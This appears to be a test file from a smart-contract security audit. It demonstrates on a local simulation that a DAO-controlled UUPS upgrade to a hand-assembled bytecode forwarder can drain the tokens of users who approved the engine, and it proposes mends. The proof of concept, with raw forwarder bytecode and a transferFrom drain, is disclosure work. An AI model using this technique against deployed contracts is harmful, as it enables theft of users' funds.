/**
 * FINDING 65, privilege. An upgrade reaches beyond the engine: into the wallet of everyone who has approved it.
 *
 * Who:    whoever carries a vote of the DAO (finding 35).
 * Needs:  an implementation that calls the token; wallets with open allowances, as users and validators give them once for all.
 * Costs:  nothing.
 * Brings: 1 000 AIUS from the wallet of a user who has nothing in the engine; so from each, beside all that the engine holds.
 * Harms:  everyone who ever used the engine, for as long as the allowance stands.
 * Rule:   section 4: UUPS upgrades by the owner; section 7: the timelock owns; section 5: fees and stakes are pulled from the
 *         caller.
 * Mend:   a small contract that never changes holds the allowances; or permits for each call instead of allowances.
 * On the contracts alone: the model has no other code to put in its place.
 */
import { assert } from "chai";
import { addressOf } from "../../sim/base/identity.ts";
import type { Hex } from "../../sim/base/types.ts";
import type { EvmChain } from "../../sim/chain/evm/chain.ts";
import { abiOf } from "../../sim/chain/evm/contracts.ts";
import { STRANGER, USER } from "../engine/stage.ts";
import { openEvm } from "../support/chains.ts";
import { aius, Scene } from "./scene.ts";

/** Answers `proxiableUUID` as ERC-1822 asks, and otherwise calls the address in its first 20 bytes with the bytes that follow. */
const FORWARDER: Hex = `0x${[
  "6000" + "35" + "60e0" + "1c", // the selector
  "6352d1902d" + "14" + "602d" + "57", // proxiableUUID(): to the end
  "6014" + "36" + "03" + "6014" + "6000" + "37", // the bytes after the 20th to memory
  "6000" + "6000" + "6014" + "36" + "03" + "6000" + "6000", // no results, those bytes, no value
  "6000" + "35" + "6060" + "1c" + "5a" + "f1" + "00", // the address, all gas: call, and stop
  "5b" + "7f360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc" + "6000" + "52" + "6020" + "6000" + "f3",
].join("")}`;

describe("FINDING: an upgrade reaches into wallets, on evm", () => {
  it("a user who has approved the engine loses what is in the wallet", async () => {
    const scene = await Scene.open({ name: "evm", open: openEvm });
    const implementation = addressOf("implementation");
    await (scene.chain as EvmChain).request("hardhat_setCode", implementation, FORWARDER);
    const pull = abiOf("token").encodeCall("transferFrom", [USER, STRANGER, await scene.balance(USER)]);
    const call: Hex = `0x${scene.address("token").slice(2)}${pull.slice(2)}`;
    const before = [await scene.balance(USER), await scene.balance(STRANGER)];
    await scene.mine(scene.asOwner("upgradeToAndCall", implementation, call));
    const after = [await scene.balance(USER), await scene.balance(STRANGER)];
    assert.deepEqual(before, [aius("1000"), aius("1000")]);
    assert.deepEqual(after, [0n, aius("2000")]);
  });
});
